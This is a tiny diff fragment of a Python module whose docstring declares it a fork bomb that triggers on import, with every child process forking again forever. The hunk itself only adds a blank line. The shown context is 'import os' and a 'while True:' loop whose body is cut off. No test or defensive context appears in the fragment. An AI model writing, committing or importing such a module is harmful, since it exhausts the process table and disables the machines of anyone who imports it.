@@ -1,4 +1,5 @@
 """A fork bomb at import: every child forks again, forever."""
+
 import os
 
 while True:
